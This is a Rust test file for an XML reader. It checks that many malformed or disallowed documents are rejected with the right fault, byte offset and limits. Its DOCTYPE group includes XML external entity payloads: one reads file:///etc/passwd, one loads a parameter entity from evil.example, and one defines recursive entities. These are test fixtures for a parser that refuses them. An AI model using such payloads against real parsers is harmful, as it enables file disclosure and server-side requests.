//! XML that is not well-formed, or that we refuse: every document with the fault
//! that it has to be refused for. The groups follow XML 1.0, fifth edition.

use deedbox_xero::wire::XmlFault::{self, *};
use deedbox_xero::wire::{Instead, MAX_XML, Malformed, xml};

type Case = (&'static str, XmlFault);

const TAGS: &[Case] = &[
    ("</Response>", EndTag),
    ("<Response></response>", EndTag),
    ("<Response><a></b></Response>", EndTag),
    ("<Response><a></Response></a>", EndTag),
    ("<Response><a><b></a></b></Response>", EndTag),
    ("<Response></Response a='1'>", EndTag),
    ("<Response></ Response>", EndTag),
    ("<Response></Response/>", EndTag),
    ("<Response></></Response>", EndTag),
    ("< Response/>", StartTag),
    ("<></>", StartTag),
    ("<Response><></></Response>", StartTag),
    ("<Response><1/></Response>", StartTag),
    ("<Response><-a/></Response>", StartTag),
    ("<Response><.a/></Response>", StartTag),
    ("<Response><a,b/></Response>", StartTag),
    ("<Response><a<b/></Response>", StartTag),
    ("<Response><a\u{a0}b='1'/></Response>", StartTag),
    ("<Response><\u{d7}/></Response>", StartTag),
    ("<Response / >", Attribute),
    ("<Response><a/ ></Response>", StartTag),
];

const ATTRIBUTES: &[Case] = &[
    ("<Response a></Response>", Attribute),
    ("<Response><a b/></Response>", Attribute),
    ("<Response a=></Response>", Attribute),
    ("<Response a=b></Response>", Attribute),
    ("<Response a=1></Response>", Attribute),
    ("<Response =''></Response>", Attribute),
    ("<Response a=''''></Response>", Attribute),
    ("<Response a='1'b='2'></Response>", Attribute),
    ("<Response a='1',b='2'></Response>", Attribute),
    ("<Response a='1' a='2'></Response>", DuplicateAttribute),
    ("<Response a='1' b='' a=\"1\"/>", DuplicateAttribute),
    ("<Response a='<'></Response>", Attribute),
    ("<Response a='&'></Response>", Attribute),
    ("<Response a='&b;'></Response>", Attribute),
    ("<Response a='&#0;'></Response>", Attribute),
    ("<Response a='&amp'></Response>", Attribute),
    ("<Response 1='1'></Response>", Attribute),
    ("<Response a/b='1'></Response>", Attribute),
    ("<Response a.='1' -b='2'></Response>", Attribute),
];

const REFERENCES: &[Case] = &[
    ("<Response>&</Response>", Reference),
    ("<Response>a & b</Response>", Reference),
    ("<Response>&amp</Response>", Reference),
    ("<Response>& amp;</Response>", Reference),
    ("<Response>&amp ;</Response>", Reference),
    ("<Response>&;</Response>", Reference),
    ("<Response>&nbsp;</Response>", Reference),
    ("<Response>&AMP;</Response>", Reference),
    ("<Response>&#;</Response>", Reference),
    ("<Response>&#x;</Response>", Reference),
    ("<Response>&#xG;</Response>", Reference),
    ("<Response>&#X41;</Response>", Reference),
    ("<Response>&#-1;</Response>", Reference),
    ("<Response>&#+65;</Response>", Reference),
    ("<Response>&# 65;</Response>", Reference),
    ("<Response>&#4a;</Response>", Reference),
    ("<Response>&#0;</Response>", Reference),
    ("<Response>&#1;</Response>", Reference),
    ("<Response>&#xB;</Response>", Reference),
    ("<Response>&#xD800;</Response>", Reference),
    ("<Response>&#xFFFF;</Response>", Reference),
    ("<Response>&#x110000;</Response>", Reference),
    ("<Response>&#99999999999;</Response>", Reference),
];

const COMMENTS: &[Case] = &[
    ("<Response><!-- a -- b --></Response>", Comment),
    ("<Response><!-- a ---></Response>", Comment),
    ("<Response><!-----></Response>", Comment),
    ("<!-- -- --><Response/>", Comment),
    ("<Response/><!-- -- -->", Comment),
    ("<Response><!-></Response>", Markup),
    ("<Response><!- a --></Response>", Markup),
    ("<Response><! a></Response>", Markup),
    ("<Response><!></Response>", Markup),
];

const SECTIONS: &[Case] = &[
    ("<Response>]]></Response>", SectionEnd),
    ("<Response>a]]]>b</Response>", SectionEnd),
    ("<Response><![CDATA[a]]>]]></Response>", SectionEnd),
    ("<Response><![cdata[x]]></Response>", Markup),
    ("<Response><![CDATA [x]]></Response>", Markup),
    ("<Response><![IGNORE[x]]></Response>", Markup),
    ("<![CDATA[]]><Response/>", Outside),
    ("<Response/><![CDATA[x]]>", Outside),
];

const INSTRUCTIONS: &[Case] = &[
    ("<?go now?><Response/>", Instruction),
    ("<Response><?go now?></Response>", Instruction),
    ("<Response/><?go?>", Instruction),
    ("<?xml-stylesheet href='a'?><Response/>", Instruction),
    ("<Response><? ?></Response>", Declaration),
    ("<Response><?1 ?></Response>", Declaration),
    ("<Response><?XML a?></Response>", Declaration),
    ("<Response><?xml version='1.0'?></Response>", Declaration),
    ("<Response/><?xml version='1.0'?>", Declaration),
    (" <?xml version='1.0'?><Response/>", Declaration),
    (
        "<?xml version='1.0'?><?xml version='1.0'?><Response/>",
        Declaration,
    ),
    ("<?XML version='1.0'?><Response/>", Declaration),
    ("<?xml?><Response/>", Declaration),
    ("<?xml version=1.0?><Response/>", Declaration),
    ("<?xml version='1.0\"?><Response/>", Declaration),
    ("<?xml version='2.0'?><Response/>", Declaration),
    ("<?xml version='1.'?><Response/>", Declaration),
    ("<?xml encoding='utf-8'?><Response/>", Declaration),
    ("<?xml VERSION='1.0'?><Response/>", Declaration),
    (
        "<?xml version='1.0' standalone='maybe'?><Response/>",
        Declaration,
    ),
    (
        "<?xml version='1.0' standalone='yes' encoding='utf-8'?><Response/>",
        Declaration,
    ),
    (
        "<?xml version='1.0'encoding='utf-8'?><Response/>",
        Declaration,
    ),
    ("<?xml version='1.0' x='y'?><Response/>", Declaration),
];

const ENCODINGS: &[Case] = &[
    (
        "<?xml version='1.0' encoding='utf-16'?><Response/>",
        Encoding,
    ),
    (
        "<?xml version='1.0' encoding='iso-8859-1'?><Response/>",
        Encoding,
    ),
    (
        "<?xml version='1.0' encoding='us-ascii'?><Response/>",
        Encoding,
    ),
    ("<?xml version='1.0' encoding=''?><Response/>", Encoding),
];

const CHARACTERS: &[Case] = &[
    ("<Response>\0</Response>", Character),
    ("\0<Response/>", Character),
    ("<Response/>\0", Character),
    ("<Response>\u{1}</Response>", Character),
    ("<Response>\u{b}</Response>", Character),
    ("<Response>\u{c}</Response>", Character),
    ("<Response>\u{1f}</Response>", Character),
    ("<Response>\u{fffe}</Response>", Character),
    ("<Response>\u{ffff}</Response>", Character),
    ("<Response a='\u{8}'/>", Character),
    ("<Response><!-- \u{7} --></Response>", Character),
    ("<Response><![CDATA[\u{0}]]></Response>", Character),
    ("<Res\u{0}ponse/>", Character),
];

const DOCUMENT_TYPES: &[Case] = &[
    ("<!DOCTYPE Response><Response/>", Doctype),
    (
        "<!DOCTYPE r [<!ENTITY a 'b'>]><Response>&a;</Response>",
        Doctype,
    ),
    (
        "<!DOCTYPE r SYSTEM 'file:///etc/passwd'><Response/>",
        Doctype,
    ),
    (
        "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/'>%p;]><Response/>",
        Doctype,
    ),
    (
        "<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><Response>&a;</Response>",
        Doctype,
    ),
    ("<!doctype Response><Response/>", Doctype),
    ("<!DOCTYPE", Doctype),
    ("<!DOCTYPE>", Doctype),
    ("<Response><!DOCTYPE a></Response>", Doctype),
    ("<Response/><!DOCTYPE a>", Doctype),
    ("<!-- a --><!DOCTYPE r><Response/>", Doctype),
    ("<Response><!ELEMENT a></Response>", Markup),
    ("<!ENTITY a 'b'><Response/>", Markup),
];

const OUTSIDE: &[Case] = &[
    ("OK", Outside),
    ("x<Response/>", Outside),
    ("<Response/>x", Outside),
    ("<Response/>&#32;", Outside),
    ("&amp;<Response/>", Outside),
    ("\u{a0}<Response/>", Outside),
    ("\u{feff}\u{feff}<Response/>", Outside),
    ("<Response></Response><Response/>", Root),
    ("<Response/><Response/>", Root),
    ("<Response/><a/>", Root),
    ("<Answer><Status>OK</Status></Answer>", Root),
    ("<response><Status>OK</Status></response>", Root),
    ("<x:Response/>", Root),
];

/// Well-formed, but no answer of XPM can look so.
const SHAPES: &[Case] = &[
    ("<Response>text<a/></Response>", Mixed),
    ("<Response><a/>text</Response>", Mixed),
    ("<Response><Clients>x</Clients></Response>", Mixed),
    ("<Response><Clients><Client/>x</Clients></Response>", Mixed),
    ("<Response><Clients><Job/></Clients></Response>", Foreign),
    ("<Response><a/><a/></Response>", Repeated),
    (
        "<Response><Client><Name>a</Name><Phone/><Name>b</Name></Client></Response>",
        Repeated,
    ),
    (
        "<Response><Tags><Tag/><Tag/><Other/></Tags></Response>",
        Foreign,
    ),
];

const GROUPS: &[&[Case]] = &[
    TAGS,
    ATTRIBUTES,
    REFERENCES,
    COMMENTS,
    SECTIONS,
    INSTRUCTIONS,
    ENCODINGS,
    CHARACTERS,
    DOCUMENT_TYPES,
    OUTSIDE,
    SHAPES,
];

/// Documents without an end.
const CUT: &[&str] = &[
    "",
    " ",
    "<",
    "<Response",
    "<Response a='1",
    "<Response>",
    "<Response><a>",
    "<Response><a></a>",
    "<Response></Response",
    "<!",
    "<!-",
    "<!-- a",
    "<!-- a --",
    "<Response><![CDATA[x]]",
    "<Response><![CDA",
    "<Response><![CDATA[x]]</Response>",
    "<Response>&am",
    "<?xml version='1.0'",
    "<Response><?a</Response>",
    "<Response/><!-- ",
    "\u{feff}",
];

#[test]
fn each_is_refused_for_what_it_is() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for (document, wanted) in GROUPS.iter().flat_map(|group| group.iter()) {
        count += 1;
        match xml::to_value(document.as_bytes(), xml::ROOT) {
            Err(Malformed::Xml { at, fault })
                if fault == *wanted && at <= document.len() as u64 => {}
            other => wrong.push(format!("{document:?}: {other:?} for {wanted:?}")),
        }
    }
    for document in CUT {
        count += 1;
        let got = xml::to_value(document.as_bytes(), xml::ROOT);
        if got != Err(Malformed::Cut) {
            wrong.push(format!("{document:?}: {got:?} for a cut"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {count}:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    assert!(count >= 60);
}

#[test]
fn the_place_is_told_in_bytes() {
    let at = |document: &str| match xml::to_value(document.as_bytes(), xml::ROOT) {
        Err(Malformed::Xml { at, .. }) => at,
        other => panic!("{document}: {other:?}"),
    };
    assert_eq!(at("<Response>Zoë\u{1}</Response>"), 14);
    assert_eq!(at("\u{feff}<Response>Zoë\u{1}</Response>"), 17);
    assert_eq!(at("<Response><a></b></Response>"), 13);
    assert_eq!(at("\u{feff}<Response><a></b></Response>"), 16);
    assert_eq!(at("<Response><a b='1' b='2'/></Response>"), 10);
}

#[test]
fn other_encodings_and_other_formats_are_named() {
    let read = |bytes: &[u8]| xml::to_value(bytes, xml::ROOT).unwrap_err();
    assert_eq!(
        read(b"<Response>\xff</Response>"),
        Malformed::Encoding { at: 10 }
    );
    assert_eq!(
        read(b"<Response>\xc0\x80</Response>"),
        Malformed::Encoding { at: 10 }
    );
    assert_eq!(
        read(b"<Response>\xed\xa0\x80</Response>"),
        Malformed::Encoding { at: 10 }
    );
    assert_eq!(read(b"<Response>\xc3"), Malformed::Cut);
    for wide in [u16::to_le_bytes, u16::to_be_bytes] {
        let marked: Vec<u8> = "\u{feff}<Response/>"
            .encode_utf16()
            .flat_map(wide)
            .collect();
        assert_eq!(read(&marked), Malformed::Encoding { at: 0 });
        let plain: Vec<u8> = "<Response/>".encode_utf16().flat_map(wide).collect();
        let fault = Character;
        assert!(matches!(read(&plain), Malformed::Xml { fault: f, .. } if f == fault));
    }
    assert_eq!(
        read(b" {\"status\":\"OK\"}"),
        Malformed::Instead(Instead::Json)
    );
    assert_eq!(read(b"[]"), Malformed::Instead(Instead::Json));
    for page in [
        "<html><body>502",
        "<HTML>",
        "\n<!DOCTYPE html>",
        "<!doctype HTML PUBLIC ''>",
    ] {
        assert_eq!(
            read(page.as_bytes()),
            Malformed::Instead(Instead::Html),
            "{page}"
        );
    }
}

#[test]
fn size_and_attributes_have_a_limit() {
    let long = vec![b' '; MAX_XML + 1];
    assert_eq!(
        xml::to_value(&long, xml::ROOT),
        Err(Malformed::Long { limit: MAX_XML })
    );
    let many: Vec<_> = (0..65).map(|n| format!("a{n}='1'")).collect();
    let document = format!("<Response {}/>", many.join(" "));
    let refused = xml::to_value(document.as_bytes(), xml::ROOT);
    assert!(matches!(
        refused,
        Err(Malformed::Xml {
            fault: Attribute,
            ..
        })
    ));
}
